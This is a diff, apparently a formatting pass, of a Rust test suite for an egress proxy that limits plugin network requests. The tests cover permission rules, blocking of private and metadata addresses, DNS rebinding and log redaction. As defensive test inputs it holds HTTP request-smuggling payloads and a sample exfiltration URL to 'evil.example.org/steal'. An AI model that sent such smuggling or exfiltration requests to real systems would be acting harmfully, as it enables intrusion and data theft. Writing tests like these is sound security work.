@@ -32,7 +32,9 @@ fn session(
     bounds: Bounds,
     time: Duration,
 ) -> Session {
-    let policy = Policy::new(requested.map(|texts| rules(server, texts)), rules(server, granted), bounds).unwrap();
+    let policy =
+        Policy::new(requested.map(|texts| rules(server, texts)), rules(server, granted), bounds)
+            .unwrap();
     let egress = Egress::with_resolver(names.clone()).unwrap();
     egress.outlet("plugin", policy, Credentials::new(credentials).unwrap()).session(
         &Tenant::ANONYMOUS,
@@ -47,7 +49,10 @@ fn memory() -> Pool {
 }
 
 fn rules(server: &Server, texts: &[&str]) -> Vec<Rule> {
-    texts.iter().map(|text| text.replace("PORT", &server.address.port().to_string()).parse().unwrap()).collect()
+    texts
+        .iter()
+        .map(|text| text.replace("PORT", &server.address.port().to_string()).parse().unwrap())
+        .collect()
 }
 
 fn get(url: &str) -> Request {
@@ -55,7 +60,11 @@ fn get(url: &str) -> Request {
 }
 
 fn post(url: &str, body: &'static str) -> Request {
-    Request { method: "POST".to_owned(), body: Some(Bytes::from_static(body.as_bytes())), ..get(url) }
+    Request {
+        method: "POST".to_owned(),
+        body: Some(Bytes::from_static(body.as_bytes())),
+        ..get(url)
+    }
 }
 
 fn kind_of(result: Result<Response, Error>) -> (ErrorKind, bool) {
@@ -65,22 +74,43 @@ fn kind_of(result: Result<Response, Error>) -> (ErrorKind, bool) {
 
 #[tokio::test]
 async fn a_permitted_request_goes_out_as_it_is_and_its_response_comes_back_as_it_is() {
-    let server =
-        Server::start(|_| says("418 Teapot", "x-odd: 1\r\nX-Odd: 2\r\ncontent-encoding: gzip\r\n", "not gzip at all")).await;
+    let server = Server::start(|_| {
+        says("418 Teapot", "x-odd: 1\r\nX-Odd: 2\r\ncontent-encoding: gzip\r\n", "not gzip at all")
+    })
+    .await;
     let names = Names::new(&[("api.example.com", LOCAL)]);
-    let session = session_with(&names, &server, &["http://api.example.com:PORT POST /v1/** private"], Bounds::PLUGIN);
-    let headers = vec![("X-Mine".to_owned(), b"a".to_vec()), ("x-mine".to_owned(), b"caf\xc3\xa9".to_vec())];
+    let session = session_with(
+        &names,
+        &server,
+        &["http://api.example.com:PORT POST /v1/** private"],
+        Bounds::PLUGIN,
+    );
+    let headers =
+        vec![("X-Mine".to_owned(), b"a".to_vec()), ("x-mine".to_owned(), b"caf\xc3\xa9".to_vec())];
     let url = server.url("API.example.com.", "/v1/x/../a%20b?q=%2f#fragment");
     let response = session.send(Request { headers, ..post(&url, "body") }).await.unwrap();
     assert_eq!((response.status, response.body.as_slice()), (418, b"not gzip at all".as_slice()));
-    let odd: Vec<_> = response.headers.iter().filter(|(name, _)| name == "x-odd").map(|(_, value)| value.as_slice()).collect();
+    let odd: Vec<_> = response
+        .headers
+        .iter()
+        .filter(|(name, _)| name == "x-odd")
+        .map(|(_, value)| value.as_slice())
+        .collect();
     assert_eq!(odd, [b"1", b"2"]);
     assert_eq!(response.final_url, server.url("api.example.com", "/v1/a%20b?q=%2f"));
     let sent = &server.requests()[0];
-    assert!(sent.starts_with("POST /v1/a%20b?q=%2f HTTP/1.1\r\nx-mine: a\r\nx-mine: café\r\n"), "{sent}");
-    assert!(sent.contains(&format!("host: api.example.com:{}\r\n", server.address.port())), "{sent}");
     assert!(
-        sent.contains("user-agent: airlock/") && sent.contains("content-length: 4\r\n") && sent.ends_with("\r\n\r\nbody"),
+        sent.starts_with("POST /v1/a%20b?q=%2f HTTP/1.1\r\nx-mine: a\r\nx-mine: café\r\n"),
+        "{sent}"
+    );
+    assert!(
+        sent.contains(&format!("host: api.example.com:{}\r\n", server.address.port())),
+        "{sent}"
+    );
+    assert!(
+        sent.contains("user-agent: airlock/")
+            && sent.contains("content-length: 4\r\n")
+            && sent.ends_with("\r\n\r\nbody"),
         "{sent}"
     );
     assert!(!sent.contains("accept-encoding") && !sent.contains("referer"), "{sent}");
@@ -110,7 +140,10 @@ async fn what_is_not_permitted_is_neither_resolved_nor_sent() {
         post(&server.url("a.example.com", "/v1/x"), ""),
     ] {
         let error = session.send(denied).await.expect_err("it is refused");
-        assert_eq!((error.kind, error.request_sent, &*error.message), (ErrorKind::Denied, false, "the request is not permitted"));
+        assert_eq!(
+            (error.kind, error.request_sent, &*error.message),
+            (ErrorKind::Denied, false, "the request is not permitted")
+        );
     }
     assert_eq!((names.asked(), server.connections()), (Vec::new(), 0));
     session.send(get(&server.url("a.example.com", "/v1/x"))).await.expect("this one is permitted");
@@ -139,27 +172,56 @@ async fn a_public_rule_leads_to_no_private_address_whatever_it_is_called() {
         assert_eq!(kind_of(result), (ErrorKind::Denied, false), "{name} {answer:?}");
     }
     assert_eq!(server.connections(), 0);
-    let session = session_with(&Names::new(&[]), &server, &["http://127.0.0.1:PORT GET /** private"], Bounds::PLUGIN);
-    session.send(get(&format!("http://2130706433:{port}/"))).await.expect("a private rule leads there");
+    let session = session_with(
+        &Names::new(&[]),
+        &server,
+        &["http://127.0.0.1:PORT GET /** private"],
+        Bounds::PLUGIN,
+    );
+    session
+        .send(get(&format!("http://2130706433:{port}/")))
+        .await
+        .expect("a private rule leads there");
 }
 
 #[tokio::test]
 async fn a_private_address_needs_both_sides_to_say_so() {
     let server = Server::start(|_| ok("")).await;
     let names = Names::new(&[("x.example.com", LOCAL)]);
-    let (public, private) = ("http://x.example.com:PORT GET /**", "http://x.example.com:PORT GET /** private");
-    for (requested, granted, fine) in [(private, private, true), (public, private, false), (private, public, false)] {
-        let session = session(&names, &server, Some(&[requested]), &[granted], Vec::new(), Bounds::PLUGIN, LONG);
-        assert_eq!(session.send(get(&server.url("x.example.com", "/"))).await.is_ok(), fine, "{requested} {granted}");
+    let (public, private) =
+        ("http://x.example.com:PORT GET /**", "http://x.example.com:PORT GET /** private");
+    for (requested, granted, fine) in
+        [(private, private, true), (public, private, false), (private, public, false)]
+    {
+        let session = session(
+            &names,
+            &server,
+            Some(&[requested]),
+            &[granted],
+            Vec::new(),
+            Bounds::PLUGIN,
+            LONG,
+        );
+        assert_eq!(
+            session.send(get(&server.url("x.example.com", "/"))).await.is_ok(),
+            fine,
+            "{requested} {granted}"
+        );
     }
 }
 
 #[tokio::test]
 async fn a_name_that_stands_for_something_else_a_moment_later_is_judged_again() {
     let server = Server::start(|_| says("200 OK", "connection: close\r\n", "")).await;
-    let answers: &[&[&str]] = &[&["127.0.0.1"], &["169.254.169.254"], &["127.0.0.1", "169.254.169.254"], &["127.0.0.1"]];
+    let answers: &[&[&str]] =
+        &[&["127.0.0.1"], &["169.254.169.254"], &["127.0.0.1", "169.254.169.254"], &["127.0.0.1"]];
     let names = Names::new(&[("x.example.com", answers)]);
-    let session = session_with(&names, &server, &["http://x.example.com:PORT GET /** private"], Bounds::PLUGIN);
+    let session = session_with(
+        &names,
+        &server,
+        &["http://x.example.com:PORT GET /** private"],
+        Bounds::PLUGIN,
+    );
     let url = server.url("x.example.com", "/");
     session.send(get(&url)).await.expect("the first answer is fine");
     assert_eq!(kind_of(session.send(get(&url)).await), (ErrorKind::Denied, false));
@@ -173,11 +235,15 @@ async fn a_name_that_stands_for_something_else_a_moment_later_is_judged_again() 
 async fn a_connection_that_was_made_for_a_private_rule_is_of_no_use_to_a_public_one() {
     let server = Server::start(|_| ok("")).await;
     let names = Names::new(&[("x.example.com", LOCAL)]);
-    let granted = ["http://x.example.com:PORT GET /in private", "http://x.example.com:PORT GET /out"];
+    let granted =
+        ["http://x.example.com:PORT GET /in private", "http://x.example.com:PORT GET /out"];
     let session = session_with(&names, &server, &granted, Bounds::PLUGIN);
     session.send(get(&server.url("x.example.com", "/in"))).await.expect("it is private");
     session.send(get(&server.url("x.example.com", "/in"))).await.expect("it is private");
-    assert_eq!(kind_of(session.send(get(&server.url("x.example.com", "/out"))).await), (ErrorKind::Denied, false));
+    assert_eq!(
+        kind_of(session.send(get(&server.url("x.example.com", "/out"))).await),
+        (ErrorKind::Denied, false)
+    );
     assert_eq!(server.connections(), 1);
 }
 
@@ -186,7 +252,12 @@ async fn connections_are_kept_for_hosts_that_are_named_and_not_for_those_of_a_pa
     for (host, connections) in [("x.example.com", 1), ("*.example.com", 2)] {
         let server = Server::start(|_| ok("")).await;
         let names = Names::new(&[("x.example.com", LOCAL)]);
-        let session = session_with(&names, &server, &[&format!("http://{host}:PORT GET /** private")], Bounds::PLUGIN);
+        let session = session_with(
+            &names,
+            &server,
+            &[&format!("http://{host}:PORT GET /** private")],
+            Bounds::PLUGIN,
+        );
         for _ in 0..2 {
             session.send(get(&server.url("x.example.com", "/"))).await.unwrap();
         }
@@ -198,14 +269,25 @@ async fn connections_are_kept_for_hosts_that_are_named_and_not_for_those_of_a_pa
 async fn nothing_in_a_request_makes_two_of_it() {
     let server = Server::start(|_| ok("")).await;
     let names = Names::new(&[("x.example.com", LOCAL)]);
-    let session = session_with(&names, &server, &["http://x.example.com:PORT GET,POST /** private"], Bounds::PLUGIN);
+    let session = session_with(
+        &names,
+        &server,
+        &["http://x.example.com:PORT GET,POST /** private"],
+        Bounds::PLUGIN,
+    );
     let url = server.url("x.example.com", "/");
     let smuggled = "x\r\ncontent-length: 0\r\n\r\nGET /admin HTTP/1.1\r\nhost: x";
     for request in [
         Request { headers: vec![("x-a".to_owned(), smuggled.as_bytes().to_vec())], ..get(&url) },
         Request { headers: vec![(format!("x-a: {smuggled}"), b"".to_vec())], ..get(&url) },
-        Request { headers: vec![("transfer-encoding".to_owned(), b"chunked".to_vec())], ..post(&url, "0\r\n\r\nGET /admin") },
-        Request { headers: vec![("Content-Length".to_owned(), b"1".to_vec())], ..post(&url, "0GET /admin") },
+        Request {
+            headers: vec![("transfer-encoding".to_owned(), b"chunked".to_vec())],
+            ..post(&url, "0\r\n\r\nGET /admin")
+        },
+        Request {
+            headers: vec![("Content-Length".to_owned(), b"1".to_vec())],
+            ..post(&url, "0GET /admin")
+        },
         Request { method: format!("GET / HTTP/1.1\r\n{smuggled}"), ..get(&url) },
         get(&format!("{url}{smuggled}")),
         get(&format!("{url}%0d%0aGET%20/admin")),
@@ -214,7 +296,10 @@ async fn nothing_in_a_request_makes_two_of_it() {
         assert_eq!(kind_of(session.send(request).await), (ErrorKind::InvalidRequest, false));
     }
     assert_eq!(server.connections(), 0);
-    session.send(get(&format!("{url}?a=x%0d%0aGET%20/admin"))).await.expect("a query may hold it, encoded");
+    session
+        .send(get(&format!("{url}?a=x%0d%0aGET%20/admin")))
+        .await
+        .expect("a query may hold it, encoded");
     assert_eq!(server.requests().len(), 1);
 }
 
@@ -222,8 +307,13 @@ async fn nothing_in_a_request_makes_two_of_it() {
 async fn what_goes_wrong_on_the_way_is_told_by_kind_and_without_addresses() {
     let server = Server::start(|path| match path {
         "/garbage" => Answer::Says("SSH-2.0-OpenSSH_9\r\n\r\n".to_owned()),
-        "/cut" => Answer::Says("HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: 10\r\n\r\nabc".to_owned()),
-        "/switch" => Answer::Says("HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n".to_owned()),
+        "/cut" => Answer::Says(
+            "HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: 10\r\n\r\nabc".to_owned(),
+        ),
+        "/switch" => Answer::Says(
+            "HTTP/1.1 101 Switching Protocols\r\nconnection: upgrade\r\nupgrade: x\r\n\r\n"
+                .to_owned(),
+        ),
         _ => Answer::HangsUp,
     })
     .await;
@@ -232,8 +322,11 @@ async fn what_goes_wrong_on_the_way_is_told_by_kind_and_without_addresses() {
     drop(gone);
     let names = Names::new(&[("x.example.com", LOCAL), ("empty.example.com", &[&[]])]);
     let nobody_rule = format!("http://x.example.com:{nobody} GET /** private");
-    let granted =
-        ["http://*.example.com:PORT GET /** private", "https://x.example.com:PORT GET /** private", nobody_rule.as_str()];
+    let granted = [
+        "http://*.example.com:PORT GET /** private",
+        "https://x.example.com:PORT GET /** private",
+        nobody_rule.as_str(),
+    ];
     let session = session_with(&names, &server, &granted, Bounds::PLUGIN);
     for (url, kind, sent) in [
         (server.url("unknown.example.com", "/"), ErrorKind::Dns, false),
@@ -247,7 +340,11 @@ async fn what_goes_wrong_on_the_way_is_told_by_kind_and_without_addresses() {
     ] {
         let error = session.send(get(&url)).await.expect_err(&url);
         // A server that breaks off in the middle of the handshake may be told as either.
-        let told = if kind == ErrorKind::Tls && error.kind == ErrorKind::Connect { ErrorKind::Tls } else { error.kind };
+        let told = if kind == ErrorKind::Tls && error.kind == ErrorKind::Connect {
+            ErrorKind::Tls
+        } else {
+            error.kind
+        };
         assert_eq!((told, error.request_sent), (kind, sent), "{url} {error}");
         assert!(!format!("{error} {error:?}").contains("127.0.0.1"), "{error:?}");
     }
@@ -256,13 +353,21 @@ async fn what_goes_wrong_on_the_way_is_told_by_kind_and_without_addresses() {
 #[tokio::test]
 async fn the_log_says_which_rule_was_missing_and_the_guest_is_not_told() {
     let log = Log::default();
-    let subscriber = tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
+    let subscriber =
+        tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
     let _here = tracing::subscriber::set_default(subscriber);
     let server = Server::start(|_| ok("")).await;
     let names = Names::new(&[("x.example.com", &[&["10.1.2.3"]])]);
     let requested = ["http://*.example.com:PORT GET /**"];
-    let session =
-        session(&names, &server, Some(&requested), &["http://x.example.com:PORT GET,POST /**"], Vec::new(), Bounds::PLUGIN, LONG);
+    let session = session(
+        &names,
+        &server,
+        Some(&requested),
+        &["http://x.example.com:PORT GET,POST /**"],
+        Vec::new(),
+        Bounds::PLUGIN,
+        LONG,
+    );
     let mut told = Vec::new();
     for request in [
         get("https://evil.example.org/steal?data=private"),
@@ -283,11 +388,18 @@ async fn the_log_says_which_rule_was_missing_and_the_guest_is_not_told() {
 #[tokio::test]
 async fn the_log_shows_neither_the_path_of_a_refused_request_nor_a_credential_in_its_host() {
     let log = Log::default();
-    let subscriber = tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
+    let subscriber =
+        tracing_subscriber::fmt().with_writer(log.clone()).with_ansi(false).without_time().finish();
     let _here = tracing::subscriber::set_default(subscriber);
     let server = Server::start(|_| ok("")).await;
     let names = Names::new(&[("to-ken.example.com", &[&["10.1.2.3"]])]);
-    let credential = Credential::new("token", Secret::new("To-ken"), Injection::query("key").unwrap(), Vec::new()).unwrap();
+    let credential = Credential::new(
+        "token",
+        Secret::new("To-ken"),
+        Injection::query("key").unwrap(),
+        Vec::new(),
+    )
+    .unwrap();
     let granted = ["http://*.example.com:PORT GET /**"];
     let session = session(&names, &server, None, &granted, vec![credential], Bounds::PLUGIN, LONG);
     for request in [
@@ -306,7 +418,12 @@ async fn the_log_shows_neither_the_path_of_a_refused_request_nor_a_credential_in
     ] {
         assert!(log.contains(line), "{line} {log}");
     }
-    assert!(!log.to_lowercase().contains("to-ken") && !log.contains("shown") && !log.contains("anybody"), "{log}");
+    assert!(
+        !log.to_lowercase().contains("to-ken")
+            && !log.contains("shown")
+            && !log.contains("anybody"),
+        "{log}"
+    );
 }
 
 /// A log in memory.
